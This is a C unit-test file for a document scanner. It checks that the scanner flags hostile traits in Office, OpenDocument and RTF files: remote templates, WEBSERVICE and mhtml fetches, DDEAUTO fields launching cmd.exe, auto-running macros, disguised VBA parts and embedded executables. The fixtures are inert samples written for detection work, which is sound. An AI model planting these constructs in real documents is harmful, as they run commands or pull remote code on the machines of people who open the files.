/* Documents that are zips, and RTF: what they load, start and carry. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/limits.h"
#include "file/contents.h"
#include "file/make_ole.h"
#include "file/make_zip.h"

#define BIT(t) (UINT32_C(1) << (t))
#define PARTS_MAX 4

struct part {
	const char *name, *text;
};

static const struct {
	const char *name;
	struct part
	    parts[PARTS_MAX]; /* besides [Content_Types].xml or META-INF/manifest.xml, which come first */
	bool odf;
	enum magic_type type;
	uint32_t traits;
	const char *evidence; /* of the highest trait; NULL = not asked for */
	const char *links;    /* each with a space behind */
	const char *members;  /* likewise */
} cases[] = {
	{ "letter",
	  { { "word/document.xml", "<w:document><w:body/></w:document>" }, { "word/media/a.png", "x" } },
	  false,
	  MAGIC_DOCX,
	  0,
	  NULL,
	  "",
	  "" },
	{ "link",
	  { { "word/_rels/document.xml.rels", "<Relationships><Relationship Id='r1' "
					      "Type='http://x/hyperlink' Target='http://a.example/?b&amp;c' "
					      "TargetMode='External'/></Relationships>" } },
	  false,
	  MAGIC_DOCX,
	  0,
	  NULL,
	  "http://a.example/?b&c ",
	  "" },
	{ "links in formulas",
	  { { "xl/worksheets/sheet1.xml",
	      "<c><f>HYPERLINK(&quot;https://a.example/x&quot;,&quot;Open&quot;)</f></"
	      "c><c><f>IF(A1,hyperlink( "
	      "&quot;http://b.example/&quot;),HYPERLINK(A2,&quot;http://no.example/&quot;))</f></c>"
	      "<c><v>HYPERLINK(&quot;http://text.example/&quot;)</v></"
	      "c><c><f>HYPERLINK(&quot;#Sheet2!A1&quot;)</f></c>" } },
	  false,
	  MAGIC_XLSX,
	  0,
	  NULL,
	  "https://a.example/x http://b.example/ ",
	  "" },
	{ "formula that fetches",
	  { { "xl/worksheets/sheet1.xml",
	      "<c><f>_xlfn.WEBSERVICE(&quot;https://far.example/p&quot;)</f></c>" } },
	  false,
	  MAGIC_XLSX,
	  BIT(TRAIT_REMOTE),
	  "https://far.example/p",
	  "https://far.example/p ",
	  "" },
	{ "formula without an end",
	  { { "xl/worksheets/sheet1.xml", "<f>HYPERLINK(&quot;https://far.example/p</f><f>HYPERLINK(" } },
	  false,
	  MAGIC_XLSX,
	  0,
	  NULL,
	  "",
	  "" },
	{ "table of a page",
	  { { "xl/connections.xml",
	      "<connection refreshOnLoad=\"1\"><webPr url=\"http://far.example/t\"/></connection>"
	      "<connection><webPr url=\"http://asked.example/t\"/></connection>" } },
	  false,
	  MAGIC_XLSX,
	  BIT(TRAIT_REMOTE),
	  "http://far.example/t",
	  "http://far.example/t http://asked.example/t ",
	  "" },
	{ "remote template",
	  { { "word/_rels/settings.xml.rels",
	      "<r:Relationship Type=\"http://x/attachedTemplate\" Target=\"https://far.example/t.dotm\" "
	      "TargetMode=\"External\"/>" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_TEMPLATE),
	  "https://far.example/t.dotm",
	  "https://far.example/t.dotm ",
	  "" },
	{ "template of the writer's own disk",
	  { { "word/_rels/settings.xml.rels",
	      "<Relationship Type='http://x/attachedTemplate' Target='file:///C:\\Templates\\Letter.dotm' "
	      "TargetMode='External'/>" } },
	  false,
	  MAGIC_DOCX,
	  0,
	  NULL,
	  "",
	  "" },
	{ "remote object behind an element of HTML",
	  { { "word/_rels/document.xml.rels", "<plaintext/><Relationship Type='http://x/oleObject' "
					      "Target='mhtml:http://far.example/a!x-usc:b' "
					      "TargetMode='External'/>" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_REMOTE),
	  "mhtml:http://far.example/a!x-usc:b",
	  "mhtml:http://far.example/a!x-usc:b ",
	  "" },
	{ "macros under another name",
	  { { "word/_rels/document.xml.rels",
	      "<Relationship Type='http://x/relationships/vbaProject' Target='media/image1.png'/>" },
	    { "word/embeddings/oleObject1.bin", "x" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_MACROS),
	  "media/image1.png",
	  "",
	  "word/embeddings/oleObject1.bin " },
	{ "macro sheet under another name",
	  { { "xl/_rels/workbook.xml.rels",
	      "<Relationship Type='http://x/relationships/xlMacrosheet' Target='worksheets/sheet9.xml'/>" } },
	  false,
	  MAGIC_XLSX,
	  BIT(TRAIT_MACRO_SHEET),
	  "worksheets/sheet9.xml",
	  "",
	  "" },
	{ "picture from elsewhere is a link",
	  { { "ppt/slides/_rels/slide1.xml.rels",
	      "<Relationship Type='http://x/image' Target='http://pic.example/1.png' "
	      "TargetMode='External'/>" } },
	  false,
	  MAGIC_PPTX,
	  0,
	  NULL,
	  "http://pic.example/1.png ",
	  "" },
	{ "field torn over runs",
	  { { "word/document.xml",
	      "<w:body><w:fldChar w:fldCharType='begin'/><w:instrText> DDE</w:instrText><w:r/>"
	      "<w:instrText>AUTO c:\\cmd.exe &quot;/k x&quot;</w:instrText><w:fldChar "
	      "w:fldCharType='end'/></w:body>" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_DDE),
	  "c:\\cmd.exe \"/k x\"",
	  "",
	  "" },
	{ "field in a piece that is no markup",
	  { { "word/document.xml", "<w:instrText><![CDATA[DDEAUTO a b]]></w:instrText><w:fldChar/>" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_DDE),
	  "a b",
	  "",
	  "" },
	{ "macros under another name",
	  { { "word/_rels/document.xml.rels",
	      "<Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' "
	      "Target='media/image1.png'/>" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_MACROS),
	  "media/image1.png",
	  "",
	  "" },
	{ "macro sheet under another name",
	  { { "xl/_rels/workbook.xml.rels",
	      "<Relationship Target='worksheets/sheet2.xml' "
	      "Type='http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet'/>" } },
	  false,
	  MAGIC_XLSX,
	  BIT(TRAIT_MACRO_SHEET),
	  "worksheets/sheet2.xml",
	  "",
	  "" },
	{ "field of one element",
	  { { "word/document.xml",
	      "<w:fldSimple w:instr=' HYPERLINK \"http://f.example/\" '>x</w:fldSimple>" } },
	  false,
	  MAGIC_DOCX,
	  0,
	  NULL,
	  "http://f.example/ ",
	  "" },
	{ "the word alone",
	  { { "word/document.xml", "<w:t>DDEAUTO and LINK are fields</w:t>" } },
	  false,
	  MAGIC_DOCX,
	  0,
	  NULL,
	  "",
	  "" },
	{ "workbook that starts a program",
	  { { "xl/workbook.xml", "<workbook/>" },
	    { "xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd' ddeTopic='/c calc'/>" } },
	  false,
	  MAGIC_XLSX,
	  BIT(TRAIT_DDE),
	  "cmd /c calc",
	  "",
	  "" },
	{ "macro sheet that runs",
	  { { "xl/workbook.xml", "<definedName name='_xlnm.Auto_Open'>M!A1</definedName>" },
	    { "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>" } },
	  false,
	  MAGIC_XLSX,
	  BIT(TRAIT_MACRO_SHEET) | BIT(TRAIT_MACRO_AUTO),
	  NULL,
	  "",
	  "" },
	{ "macros that cannot be read",
	  { { "word/vbaProject.bin", "rubbish" } },
	  false,
	  MAGIC_DOCX,
	  BIT(TRAIT_MACROS),
	  "vbaProject.bin",
	  "",
	  "" },
	{ "things inside",
	  { { "word/embeddings/oleObject1.bin", "x" },
	    { "word/evil.exe", "MZ" },
	    { "word/afchunk.mht", "From: x" } },
	  false,
	  MAGIC_DOCX,
	  0,
	  NULL,
	  "",
	  "word/embeddings/oleObject1.bin word/evil.exe word/afchunk.mht " },
	{ "OpenDocument text",
	  { { "mimetype", "application/vnd.oasis.opendocument.text" },
	    { "content.xml", "<text:a xlink:href='http://o.example/'>x</text:a>" } },
	  true,
	  MAGIC_ODT,
	  0,
	  NULL,
	  "http://o.example/ ",
	  "" },
	{ "OpenDocument macros that run",
	  { { "mimetype", "application/vnd.oasis.opendocument.spreadsheet" },
	    { "content.xml", "<script:event-listener script:event-name='dom:load' "
			     "xlink:href='vnd.sun.star.script:a.py$b'/>" },
	    { "Scripts/python/a.py", "print" } },
	  true,
	  MAGIC_ODS,
	  BIT(TRAIT_MACROS) | BIT(TRAIT_MACRO_AUTO),
	  "dom:load",
	  "",
	  "" },
	{ "OpenDocument, locked",
	  { { "mimetype", "application/vnd.oasis.opendocument.text" }, { "content.xml", "\1\2" } },
	  true,
	  MAGIC_ODT,
	  0,
	  NULL,
	  "",
	  "" },
};

static struct str list_links(struct arena *a, const struct file_contents *c)
{
	struct str out = STR("");

	for (size_t i = 0; i < c->links.n; i++)
		out = ARENA_JOIN(a, out, c->links.v[i], STR(" "));
	return out;
}

static struct str list_members(struct arena *a, const struct file_contents *c)
{
	struct str out = STR("");

	for (size_t i = 0; i < c->members.n; i++)
		out = ARENA_JOIN(a, out, c->members.v[i].name, STR(" "));
	return out;
}

static struct file_contents *look(struct arena *a, struct str bytes)
{
	struct file_budget budget = { .bytes = LIMIT_UNPACKED, .members = LIMIT_MEMBERS };

	return file_contents_read(a, bytes, &budget);
}

static void test_zips(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct arena *a = arena_new(64 << 20, NULL, NULL);
		struct make_member members[PARTS_MAX + 1] = {
			{ .name = STR("[Content_Types].xml"), .data = STR("<Types/>"), .deflate = true }
		};
		struct make_zip zip = { .v = members, .n = 1 };
		if (cases[i].odf)
			members[0].name = STR("META-INF/manifest.xml");
		for (; zip.n <= PARTS_MAX && cases[i].parts[zip.n - 1].name; zip.n++)
			members[zip.n] = (struct make_member){ .name = str_of(cases[i].parts[zip.n - 1].name),
							       .data = str_of(cases[i].parts[zip.n - 1].text),
							       .deflate = zip.n % 2 && !cases[i].odf };
		struct file_contents *c = look(a, make_zip(a, &zip));
		if (c->type != cases[i].type || c->traits != cases[i].traits)
			fail_msg("%s: type %d, traits %x", cases[i].name, (int)c->type, c->traits);
		if (cases[i].evidence &&
		    !str_eq(c->evidence[31 - __builtin_clz(c->traits)], str_of(cases[i].evidence)))
			fail_msg("%s: %.*s", cases[i].name,
				 STR_ARG(c->evidence[31 - __builtin_clz(c->traits)]));
		if (!str_eq(list_links(a, c), str_of(cases[i].links)))
			fail_msg("%s: links %.*s", cases[i].name, STR_ARG(list_links(a, c)));
		if (!str_eq(list_members(a, c), str_of(cases[i].members)))
			fail_msg("%s: members %.*s", cases[i].name, STR_ARG(list_members(a, c)));
		arena_free(&a);
	}
}

/* Megabytes of calls that lead nowhere: each octet is looked at a few times only, or this takes for ever. */
static void test_linear(void **state)
{
	static const struct str parts[] = { STR_INIT("HYPERLINK("), STR_INIT("image( ") };
	enum { BYTES = 7000000 };
	struct arena *a = arena_new(128u << 20, NULL, NULL);

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
		char *p = arena_alloc(a, BYTES);
		for (size_t at = 0; at < BYTES; at++)
			p[at] = parts[i].p[at % parts[i].n];
		const struct make_member members[] = {
			{ .name = STR("[Content_Types].xml"), .data = STR("<Types/>") },
			{ .name = STR("xl/worksheets/sheet1.xml"),
			  .data = ARENA_JOIN(a, STR("<f>"), str_from(p, BYTES), STR("</f>")) },
		};
		struct file_contents *c = look(a, make_zip(a, &(struct make_zip){ .v = members, .n = 2 }));
		assert_int_equal(c->type, MAGIC_XLSX);
		assert_int_equal(c->links.n, 0);
	}
	arena_free(&a);
}

static void test_odf_lock(void **state)
{
	static const struct make_member members[] = {
		{ .name = STR_INIT("mimetype"), .data = STR_INIT("application/vnd.oasis.opendocument.text") },
		{ .name = STR_INIT("META-INF/manifest.xml"),
		  .data = STR_INIT("<manifest:encryption-data manifest:checksum='x'/>") },
	};
	static const struct make_zip zip = { .v = members, .n = 2 };
	struct arena *a = arena_new(64 << 20, NULL, NULL);

	(void)state;
	assert_int_equal(look(a, make_zip(a, &zip))->traits, BIT(TRAIT_ENCRYPTED));
	arena_free(&a);
}

/* vbaProject.bin is read as the compound file it is, and so it is under another name. */
static void test_vba_project(void **state)
{
	static const char *const names[] = { "xl/vbaProject.bin", "xl/settings.bin" };
	struct arena *a = arena_new(64 << 20, NULL, NULL);
	const struct make_stream streams[] = {
		{ STR("VBA"), STR_NONE },
		{ STR("VBA/_VBA_PROJECT"), STR("\xcc\x61") },
		{ STR("VBA/Module1"),
		  make_vba(a, STR("Attribute VB_Name = \"M\"\r\nSub Auto_Open()\r\nShell x")) },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		const struct make_member members[] = {
			{ .name = STR("[Content_Types].xml"), .data = STR("<Types/>") },
			{ .name = str_of(names[i]),
			  .data = make_ole(a, streams, ARRAY_LEN(streams), STR_NONE),
			  .deflate = true },
		};
		const struct make_zip zip = { .v = members, .n = 2 };
		struct file_contents *c = look(a, make_zip(a, &zip));
		assert_int_equal(c->type, MAGIC_XLSX);
		assert_int_equal(c->traits,
				 BIT(TRAIT_MACROS) | BIT(TRAIT_MACRO_AUTO) | BIT(TRAIT_MACRO_SYSTEM));
		assert_true(str_eq(c->evidence[TRAIT_MACRO_AUTO], STR("Auto_Open")));
	}
	arena_free(&a);
}

/* All parts in one XML text. */
static void test_flat(void **state)
{
	struct arena *a = arena_new(64 << 20, NULL, NULL);
	const struct str letter = STR(
	    "<?xml version='1.0'?><?mso-application progid='Word.Document'?><pkg:package>"
	    "<pkg:part pkg:name='/word/_rels/settings.xml.rels'><pkg:xmlData><Relationship Type='http://"
	    "x/attachedTemplate' Target='https://far.example/t.dotm' TargetMode='External'/></pkg:xmlData>"
	    "</pkg:part><pkg:part pkg:name='/word/vbaProject.bin'><pkg:binaryData>0M8R\n4KGx\nGuEx</"
	    "pkg:binaryData></pkg:part></pkg:package>");
	struct file_contents *c = look(a, letter);

	(void)state;
	assert_int_equal(c->type, MAGIC_XML);
	assert_int_equal(c->traits, BIT(TRAIT_TEMPLATE));
	assert_true(str_eq(list_links(a, c), STR("https://far.example/t.dotm ")));
	assert_true(str_eq(list_members(a, c), STR("/word/vbaProject.bin ")));
	assert_int_equal(magic_of(c->members.v[0].data), MAGIC_OLE);
	c = look(a,
		 STR("<?xml version='1.0'?><w:binData w:name='wordml://e.mso'>QWN0aXZlTWltZQ==</w:binData>"));
	assert_int_equal(c->members.n, 0); /* of something else */
	arena_free(&a);
}

/* ---- RTF ---- */

/* OLE 1: version, format, class, topic, item, native data; in hexadecimal. */
static struct str object(struct arena *a, unsigned format, const char *class, struct str native)
{
	static const char digits[] = "0123456789abcdef";
	const struct str texts[] = { str_of(class), format == 1 ? STR("http://far.example/l") : STR_NONE,
				     STR_NONE };
	struct buf b, hex;

	buf_init(&b, 1 << 16);
	buf_init(&hex, 1 << 17);
	make_le(&b, 0x501, 4);
	make_le(&b, format, 4);
	for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
		make_le(&b, texts[i].n ? texts[i].n + 1 : 0, 4);
		buf_add(&b, texts[i]);
		if (texts[i].n)
			buf_add_char(&b, 0);
	}
	make_le(&b, native.n, 4);
	buf_add(&b, native);
	for (size_t i = 0; i < b.n; i++) {
		buf_add_char(&hex, digits[(unsigned char)b.p[i] >> 4]);
		if (i % 16 == 15)
			buf_add(&hex, STR("\r\n{\\*\\junk 41} \\par "));
		buf_add_char(&hex, digits[(unsigned char)b.p[i] & 15]);
	}
	struct str out = arena_str(a, buf_str(&hex));
	buf_free(&b);
	buf_free(&hex);
	return out;
}

static void test_rtf(void **state)
{
	struct arena *a = arena_new(64 << 20, NULL, NULL);
	struct str packaged =
	    object(a, 2, "Package", STR("\2\0a.exe\0C:\\a.exe\0\0\0\3\0\1\0\0\0\0\2\0\0\0MZ"));
	const struct {
		const char *name;
		struct str rtf;
		uint32_t traits;
		const char *links, *members;
	} rows[] = {
		{ "text", STR("{\\rtf1 Hello {\\b bold} objdata}"), 0, "", "" },
		{ "link",
		  STR("{\\rtf1{\\field{\\*\\fldinst{HYPERLINK \"http://r.example/\"}}{\\fldrslt x}}}"), 0,
		  "http://r.example/ ", "" },
		{ "template", STR("{\\rtf1{\\*\\template http://far.example/t}}"), BIT(TRAIT_TEMPLATE),
		  "http://far.example/t ", "" },
		{ "template in escapes", STR("{\\rtf1{\\*\\template \\'68ttp://far.example/t}}"),
		  BIT(TRAIT_TEMPLATE), "http://far.example/t ", "" },
		{ "template in numbers",
		  STR("{\\rtf1{\\*\\template \\u-65432?\\u116 ?{\\uc0 tp:}//f\\'61r\\uc2\\u46xx{\\uc0\\u101 "
		      "x}ample/t}}"),
		  BIT(TRAIT_TEMPLATE), "http://far.example/t ", "" },
		{ "field that starts a program",
		  STR("{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe \"/k x\"}}}"), BIT(TRAIT_DDE), "",
		  "" },
		{ "packaged file",
		  ARENA_JOIN(a, STR("{\\rtf1{\\object\\objemb{\\*\\objdata "), packaged, STR("}}}")),
		  BIT(TRAIT_OBJECT), "", "a.exe " },
		{ "packaged file, group never closed", ARENA_JOIN(a, STR("{\\rt{\\objdata "), packaged),
		  BIT(TRAIT_OBJECT), "", "a.exe " },
		{ "equation",
		  ARENA_JOIN(a, STR("{\\rtf1{\\*\\objdata "), object(a, 2, "eQuation.3", STR("x")),
			     STR("}}")),
		  BIT(TRAIT_EQUATION), "", " " },
		{ "linked object that updates itself",
		  ARENA_JOIN(a, STR("{\\rtf1\\object\\objautlink\\objupdate{\\*\\objdata "),
			     object(a, 1, "OLE2Link", STR_NONE), STR("}}")),
		  BIT(TRAIT_OBJECT) | BIT(TRAIT_REMOTE), "http://far.example/l ", "" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct file_contents *c = look(a, rows[i].rtf);
		if (c->type != MAGIC_RTF || c->traits != rows[i].traits)
			fail_msg("%s: type %d, traits %x", rows[i].name, (int)c->type, c->traits);
		if (!str_eq(list_links(a, c), str_of(rows[i].links)))
			fail_msg("%s: links %.*s", rows[i].name, STR_ARG(list_links(a, c)));
		if (!str_eq(list_members(a, c), str_of(rows[i].members)))
			fail_msg("%s: members %.*s", rows[i].name, STR_ARG(list_members(a, c)));
	}
	arena_free(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_zips),     cmocka_unit_test(test_linear),
		cmocka_unit_test(test_odf_lock), cmocka_unit_test(test_vba_project),
		cmocka_unit_test(test_flat),     cmocka_unit_test(test_rtf)
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
